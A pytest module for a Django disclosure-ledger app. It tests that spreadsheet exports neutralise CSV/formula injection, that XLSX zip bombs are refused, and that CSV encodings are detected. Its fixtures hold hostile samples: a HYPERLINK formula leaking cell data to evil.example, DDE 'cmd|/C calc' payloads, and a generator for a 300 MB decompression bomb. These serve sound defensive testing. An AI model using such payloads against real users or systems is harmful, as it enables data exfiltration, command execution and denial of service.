"""Spreadsheets written and read safely (issue 14, items 1, 3 and 7): no live formula in any export
and the import reading it back to the same text; XLSX bombs refused before openpyxl reads them, with
bounded memory; a CSV's encoding chosen from the whole file."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
import zipfile
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from disclosure.ledger import LedgerFileError, import_ledger, import_staff, import_units, read_sheet
from disclosure.models import CalendarDay, DisclosureRequest, Unit
from disclosure.spreadsheets import (
    SheetLimits,
    SheetRefused,
    check_xlsx,
    decode_csv,
    excerpt,
    neutralise,
    restore,
)
from notifications import bulletin
from reporting import services as report_services
from reporting.exports import read_report_xlsx, render_xlsx
from reporting.management.commands.annual_report import render_csv

DATA = Path(__file__).parents[1] / "data" / "ledger"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"点此查看")'
HOSTILE = [HOSTILE_NAME, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=already quoted", "'plain apostrophe",
           "=1+1", "#N/A"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")

# --- neutralise / restore (pure) ---------------------------------------------------------------------


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("''-x", "'''-x"),
    ("'plain", "'plain"), ("张三", "张三"), ("", ""), ("a=b", "a=b"), (" =x", " =x"),
])
def test_text_that_would_start_a_formula_gets_an_apostrophe_and_reads_back(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


@pytest.mark.parametrize("value", [-5, -0.5, 3, date(2026, 1, 1), None, True])
def test_numbers_dates_and_booleans_are_not_text_and_stay_as_they_are(value):
    assert neutralise(value) is value


def test_an_excerpt_quotes_a_few_characters():
    assert excerpt("x" * 10_000) == "x" * 30 + "…"
    assert excerpt("短") == "短"


# --- every export: no live formula -------------------------------------------------------------------


def assert_safe_csv(content: bytes):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows
    for row in rows:
        for field in row:
            assert not field.startswith(DANGEROUS) or NUMBER.fullmatch(field), field


def assert_safe_xlsx(content: bytes):
    book = load_workbook(io.BytesIO(content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS), cell.value
    return book


@pytest.fixture
def hostile_ledger(db):
    import_units(DATA / "units.csv")
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["ref", "unit", "channel", "submitted_on", "received_on", "applicant_type", "applicant_name",
                     "content", "concluded_on", "result"])
    for i, text in enumerate(HOSTILE):
        writer.writerow([f"R-{i}", "jd-fgj", "online", "2025-03-03", "2025-03-03", "natural_person", text,
                         f"内容 {text}" if i % 2 else text, "2025-03-20", "granted"])
    import_ledger(rows.getvalue().encode(), source_name="hostile.csv")
    # a leading tab or carriage return cannot come in through an import (cells are trimmed) but may
    # be stored otherwise
    DisclosureRequest.objects.filter(ref="R-0").update(content="\t=1+1")
    DisclosureRequest.objects.filter(ref="R-1").update(content="\r@x")
    # an import reads "'=x" as Excel's quoted "=x" (restore); a stored "'=x" must still survive a round trip
    DisclosureRequest.objects.filter(ref="R-4").update(applicant_name="'=already quoted")
    return {r.ref: (r.applicant_name, r.content) for r in DisclosureRequest.objects.all()}


def export(tmp_path, *args) -> bytes:
    from django.core.management import call_command

    path = tmp_path / "export"
    call_command("export_ledger", *args, "-o", str(path), stdout=io.StringIO())
    return path.read_bytes()


def stored():
    return {r.ref: (r.applicant_name, r.content) for r in DisclosureRequest.objects.all()}


def test_the_ledger_csv_has_no_live_formula_and_imports_back_to_the_same_text(hostile_ledger, tmp_path):
    content = export(tmp_path)
    assert_safe_csv(content)
    rows = {r["申请编号"]: r for r in csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))}
    assert rows["R-0"]["申请人"] == "'" + HOSTILE_NAME
    assert rows["R-0"]["申请内容"] == "'\t=1+1" and rows["R-1"]["申请内容"] == "'\r@x"
    assert rows["R-5"]["申请人"] == "'plain apostrophe"  # no formula: kept as it is
    DisclosureRequest.objects.filter(ref__in=["R-0", "R-1"]).update(content="x")  # (cells are trimmed on import)
    before = stored()
    content = export(tmp_path)
    result = import_ledger(content, source_name="again.csv")
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(HOSTILE))
    assert stored() == before
    assert before["R-0"][0] == HOSTILE_NAME and before["R-4"][0] == "'=already quoted"


def test_the_ledger_xlsx_has_string_cells_only_and_imports_back_to_the_same_text(hostile_ledger, tmp_path):
    content = export(tmp_path, "--format", "xlsx")
    book = assert_safe_xlsx(content)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    names = [row[header.index("申请人")] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in names} >= {"'" + HOSTILE_NAME, "#N/A", "''=already quoted"}
    assert all(c.data_type == "s" for c in names)
    # numbers and dates stay numbers and dates
    received = [row[header.index("收到申请日期")] for row in sheet.iter_rows(min_row=2)]
    used = [row[header.index("已用工作日")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.is_date for c in received) and all(isinstance(c.value, int) for c in used)
    DisclosureRequest.objects.filter(ref__in=["R-0", "R-1"]).update(content="x")
    before = stored()
    result = import_ledger(export(tmp_path, "--format", "xlsx"), source_name="again.xlsx")
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(HOSTILE))
    assert stored() == before


def test_the_json_export_is_not_a_spreadsheet_and_keeps_the_text(hostile_ledger, tmp_path):
    rows = {r["ref"]: r for r in json.loads(export(tmp_path, "--format", "json"))}
    assert rows["R-0"]["applicant_name"] == HOSTILE_NAME


def test_the_admin_and_api_exports_are_neutralised_too(hostile_ledger, client, as_user, tmp_path):
    from tests.factories import staff
    from tests.ledger_samples import downloaded

    admin = staff("sysadmin", Unit.objects.get(code="jindong"), "admin")
    for fmt in ("csv", "xlsx"):
        response = as_user(admin).get("/api/v1/ledger/export/", {"format": fmt})
        assert response.status_code == 200
        (assert_safe_csv if fmt == "csv" else assert_safe_xlsx)(downloaded(response).content)
    client.force_login(admin)
    response = client.post(reverse("admin:disclosure_disclosurerequest_ledger_export"),
                           {"format": "xlsx", "headers": "zh"})
    assert response.status_code == 200
    assert_safe_xlsx(downloaded(response).content)


@pytest.fixture
def hostile_unit(tree):
    Unit.objects.filter(pk=tree["root"].pk).update(name="=HYPERLINK(\"http://evil.example\",\"x\")")
    tree["root"].refresh_from_db()
    return tree["root"]


def test_the_annual_report_csv_and_xlsx_have_no_live_formula(hostile_unit):
    doc = report_services.compile_report(hostile_unit, 2025)
    doc["checks"].append({"code": "x", "level": "error", "ok": False, "message": "-1 是负数"})
    assert_safe_csv(render_csv(doc))
    content = render_xlsx(doc)
    book = assert_safe_xlsx(content)
    info = {r[0].value: r[1].value for r in book["报告信息"].iter_rows()}
    assert info["单位名称"] == "'" + hostile_unit.name
    assert isinstance(info["报告年度"], int)
    # read back: the name as it was, the figures as numbers
    back = read_report_xlsx(io.BytesIO(content))
    assert back["unit"]["name"] == hostile_unit.name and back["table3"]["rows"] == doc["table3"]["rows"]


def test_the_api_s_report_xlsx_has_no_live_formula(hostile_unit, people, as_user):
    response = as_user(people["admin"]).get("/api/v1/reports/annual/file/",
                                            {"year": 2025, "unit": "jindong", "format": "xlsx"})
    assert response.status_code == 200
    info = {r[0].value: r[1] for r in assert_safe_xlsx(response.content)["报告信息"].iter_rows()}
    assert info["单位名称"].value == "'" + hostile_unit.name and info["单位名称"].data_type == "s"


def test_the_monthly_bulletin_xlsx_has_no_live_formula():
    month = SimpleNamespace(month=date(2025, 9, 1), compiled_on=date(2025, 10, 9))
    rows = [{"unit": "=cmd|'/C calc'!A0", "new": 2, "concluded": 1, "on_time": 1, "on_time_rate": 0.5,
             "overdue": [{"ref": "-1+1", "due_on": "2025-09-30"}]}]
    book = assert_safe_xlsx(bulletin.render_xlsx(month, rows))
    row = [c.value for c in book.active[3]]
    assert row[:5] == ["'=cmd|'/C calc'!A0", 2, 1, 1, 0.5]


# --- XLSX bombs --------------------------------------------------------------------------------------

UNITS_HEADER = ["code", "name", "parent", "kind"]


def xlsx_bytes(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite(data: bytes, name: str, change) -> bytes:
    """The archive with one part's text changed (the others copied as they are)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            target.writestr(info.filename, change(body) if info.filename == name else body)
    return out.getvalue()


def full_width(rows: int) -> bytes:
    """A units file of `rows` rows whose sheet declares the whole grid, A1:XFD1048576."""
    data = xlsx_bytes([UNITS_HEADER] + [[f"u{i}", f"单位{i}", "", "other"] for i in range(rows)])
    return rewrite(data, "xl/worksheets/sheet1.xml",
                   lambda xml: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', xml))


def bounded_peak(call) -> int:
    tracemalloc.start()
    try:
        call()
    except (LedgerFileError, SheetRefused, report_services.ReportError):
        pass
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


def test_a_sheet_declaring_the_full_width_is_read_by_the_header_s_columns():
    data = full_width(3000)
    assert len(data) < 100_000
    peak = bounded_peak(lambda: read_sheet(data))
    sheet = read_sheet(data)
    assert len(sheet.rows) == 3000 and all(len(cells) == 4 for _n, cells in sheet.rows)
    assert peak < 30 * 2**20  # padded to XFD it was 16,384 cells a row: hundreds of MB


def test_a_units_file_declaring_the_full_width_imports(db):
    result = import_units(full_width(20))
    assert result.created == 20


MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    b"</Types>",
    "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="' + REL + b'/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": b'<?xml version="1.0"?><workbook ' + MAIN + b' xmlns:r="' + REL + b'"><sheets>'
    b'<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="' + REL + b'/worksheet" Target="worksheets/sheet1.xml"/>'
    b'<Relationship Id="rId2" Type="' + REL + b'/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    # ref | unit, then R-1 | <the long string>
    "xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet ' + MAIN + b'><dimension ref="A1:XFD1048576"/><sheetData>'
    b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    b'<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row></sheetData></worksheet>',
}


def shared_string_bomb(size: int, declared: int | None = None) -> bytes:
    """A hand-made XLSX whose one shared string is `size` characters, deflated in steps (the test never
    holds it whole); `declared` patches the part's uncompressed size in the directory to lie about it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, body in PARTS.items():
            target.writestr(name, body)
        with target.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<?xml version="1.0"?><sst ' + MAIN + b' count="4" uniqueCount="4"><si><t>ref</t></si>'
                       b"<si><t>unit</t></si><si><t>R-1</t></si><si><t>")
            chunk = b"A" * 2**20
            for start in range(0, size, len(chunk)):
                part.write(chunk[:size - start])
            part.write(b"</t></si></sst>")
    data = out.getvalue()
    if declared is not None:
        name = b"xl/sharedStrings.xml"
        position = next(p for p in _central_entries(data) if data[p + 46:p + 46 + len(name)] == name)
        data = data[:position + 24] + declared.to_bytes(4, "little") + data[position + 28:]
    return data


def test_the_hand_made_xlsx_is_a_workbook_openpyxl_reads():
    sheet = read_sheet(shared_string_bomb(30_000))
    assert sheet.header == ["ref", "unit"] and sheet.rows[0][1] == ["R-1", "A" * 30_000]


def _central_entries(data: bytes):
    position = data.find(b"PK\x01\x02")
    while position >= 0:
        yield position
        position = data.find(b"PK\x01\x02", position + 4)


@pytest.fixture(scope="module")
def bomb_300mb() -> bytes:
    return shared_string_bomb(300 * 2**20)


def test_a_file_holding_one_300_mb_string_is_refused_unread_with_a_short_message(bomb_300mb):
    assert len(bomb_300mb) < 2 * 2**20
    with pytest.raises(LedgerFileError) as refused:
        read_sheet(bomb_300mb)
    message = str(refused.value)
    assert "解压后超过256 MB" in message and "xl/sharedStrings.xml" in message and len(message) < 200
    assert bounded_peak(lambda: read_sheet(bomb_300mb)) < 20 * 2**20
    # the commands have no total cap, but the part is compressed over 100:1
    with pytest.raises(LedgerFileError, match="压缩比异常"):
        read_sheet(bomb_300mb, SheetLimits.for_commands())


def test_a_part_that_lies_about_its_size_is_refused_before_openpyxl_inflates_it():
    data = shared_string_bomb(8 * 2**20, declared=4096)
    with pytest.raises(SheetRefused, match="与声明的大小不符"):
        check_xlsx(data, SheetLimits.for_uploads())
    assert bounded_peak(lambda: read_sheet(data)) < 20 * 2**20


def test_a_long_cell_is_refused_naming_row_and_column_and_quoting_ten_characters(settings):
    settings.GONGKAI_CELL_MAX_CHARS = 1000
    for data in (xlsx_bytes([UNITS_HEADER, ["u1", "单" * 5000, "", "other"]]),
                 ("code,name,parent,kind\nu1," + "单" * 5000 + ",,other\n").encode()):
        with pytest.raises(LedgerFileError) as refused:
            read_sheet(data)
        assert str(refused.value) == "第2行“name”列的内容有5000个字符，超过上限1000个字符（开头为“单单单单单单单单单单…”）。"


def test_rows_past_the_cap_are_refused_for_uploads_and_read_by_the_commands(settings):
    settings.GONGKAI_SHEET_MAX_ROWS = 50
    data = xlsx_bytes([UNITS_HEADER] + [[f"u{i}", "x", "", "other"] for i in range(60)])
    text = ("code,name,parent,kind\n" + "".join(f"u{i},x,,other\n" for i in range(60))).encode()
    for content in (data, text):
        with pytest.raises(LedgerFileError, match="超过50行"):
            read_sheet(content)
        assert len(read_sheet(content, SheetLimits.for_commands()).rows) == 60
    far = rewrite(xlsx_bytes([UNITS_HEADER, ["u1", "x", "", "other"]]), "xl/worksheets/sheet1.xml",
                  lambda xml: xml.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>z</t>'
                                                           b"</is></c></row></sheetData>"))
    with pytest.raises(LedgerFileError, match="超过50行"):
        read_sheet(far)
    assert [n for n, _c in read_sheet(far, SheetLimits.for_commands()).rows] == [2, 1048576]


def test_the_row_cap_applies_to_uploads_and_not_to_the_commands(people, as_user, settings, tmp_path):
    from django.core.management import call_command

    settings.GONGKAI_SHEET_MAX_ROWS = 2
    content = b"code,name,parent,kind\nu1,a,,other\nu2,b,,other\nu3,c,,other\n"
    response = as_user(people["admin"]).post(
        "/api/v1/ledger/import/", {"file": SimpleUploadedFile("units.csv", content), "kind": "units"}, format="multipart")
    assert response.status_code == 400 and "超过2行" in response.json()["error"]["fields"]["file"][0]
    assert not Unit.objects.filter(code="u1").exists()
    path = tmp_path / "units.csv"
    path.write_bytes(content)
    call_command("import_units", str(path), stdout=io.StringIO())
    assert Unit.objects.filter(code__in=["u1", "u2", "u3"]).count() == 3


def test_an_api_upload_of_a_bomb_is_400_with_a_short_message(people, as_user, bomb_300mb):
    response = as_user(people["admin"]).post(
        "/api/v1/ledger/import/", {"file": SimpleUploadedFile("bomb.xlsx", bomb_300mb)}, format="multipart")
    assert response.status_code == 400 and len(response.content) < 1000, response.content.decode()
    error = response.json()["error"]
    assert "解压后超过" in error["fields"].get("file", [""])[0], error


def test_an_admin_upload_never_echoes_a_huge_cell(people, client):
    client.force_login(people["admin"])
    for length, message in ((100_000, "超过上限32767个字符"), (200_000, "field larger than field limit")):
        huge = "=" + "9" * length
        content = f"code,name,parent,kind\n{huge},单位,,{huge}\n".encode()
        response = client.post(reverse("admin:disclosure_disclosurerequest_ledger_import"),
                               {"kind": "units", "file": SimpleUploadedFile("units.csv", content)})
        assert response.status_code == 200
        assert message in response.content.decode() and len(response.content) < 100_000


def test_the_submitted_annual_report_is_read_bounded(tree, bomb_300mb):
    doc = report_services.compile_report(tree["root"], 2025)
    content = render_xlsx(doc)
    wide = rewrite(content, "xl/worksheets/sheet2.xml",
                   lambda xml: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', xml))
    assert report_services.load_report_file(io.BytesIO(wide), "r.xlsx")["table3"]["rows"] == doc["table3"]["rows"]
    assert bounded_peak(lambda: report_services.load_report_file(io.BytesIO(wide), "r.xlsx")) < 30 * 2**20
    with pytest.raises(report_services.ReportError, match="解压后超过"):
        report_services.load_report_file(io.BytesIO(bomb_300mb), "r.xlsx")
    assert bounded_peak(lambda: report_services.load_report_file(io.BytesIO(bomb_300mb), "r.xlsx")) < 20 * 2**20
    with pytest.raises(report_services.ReportError, match="超过5 MB"):
        report_services.load_report_file(io.BytesIO(b"{" + b" " * (6 * 2**20)), "r.json")
    with pytest.raises(report_services.ReportError, match="JSON"):
        report_services.load_report_file(io.BytesIO(b"[" * 200_000), "r.json")


# --- CSV encoding ------------------------------------------------------------------------------------

BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize(("data", "text"), [
    (BOM + "unit,名称\n".encode(), "unit,名称\n"),
    ("unit,名称\n".encode(), "unit,名称\n"),
    ("unit,名称\n".encode("gbk"), "unit,名称\n"),
    (BOM + "unit,名称\n".encode("gbk"), "unit,名称\n"),  # not 锘縰nit
])
def test_the_encoding_is_chosen_from_the_whole_file_not_the_bom(data, text):
    assert decode_csv(data) == text


def test_a_file_mixing_utf8_and_gbk_is_refused_naming_the_line():
    data = "code,name\nu1,甲\n".encode() + "u2,乙\n".encode("gbk")
    with pytest.raises(SheetRefused, match="第3行"):
        decode_csv(data)
    with pytest.raises(SheetRefused, match=r"不是有效的 UTF-8 编码（第2行起），也不是 GBK"):
        decode_csv(b"code,name\n\xff\xfe\xff\n")


def test_units_and_staff_and_ledger_files_with_a_bom_and_a_gbk_body_import(db):
    units = BOM + (DATA / "units_zh.csv").read_text(encoding="utf-8-sig").encode("gbk")
    assert import_units(units).created > 0
    staff = BOM + (DATA / "staff.csv").read_text(encoding="utf-8-sig").encode("gbk")
    assert import_staff(staff).created > 0
    ledger = BOM + ("ref,unit,channel,submitted_on,received_on,applicant_type,applicant_name,content\n"
                    "R-1,jd-fgj,online,2025-03-03,2025-03-03,natural_person,张三,某项目批复\n").encode("gbk")
    assert import_ledger(ledger).created == 1
    assert DisclosureRequest.objects.get(ref="R-1").applicant_name == "张三"


def test_the_calendar_csv_upload_with_a_bom_and_a_gbk_body_loads(client, people):
    client.force_login(people["admin"])
    text = "日期,是否工作日,说明\n2031-01-01,否,元旦\n"
    response = client.post(reverse("admin:disclosure_calendaryear_upload_csv"),
                           {"file": SimpleUploadedFile("2031.csv", BOM + text.encode("gbk"))})
    assert response.status_code == 302
    assert CalendarDay.objects.get(date=date(2031, 1, 1)).note == "元旦"
    mixed = "日期,是否工作日,说明\n2032-01-01,否,元旦\n".encode() + "2032-01-02,否,元旦\n".encode("gbk")
    response = client.post(reverse("admin:disclosure_calendaryear_upload_csv"),
                           {"file": SimpleUploadedFile("2032.csv", mixed)})
    assert any("第3行" in e for e in response.context["form"].errors["file"])
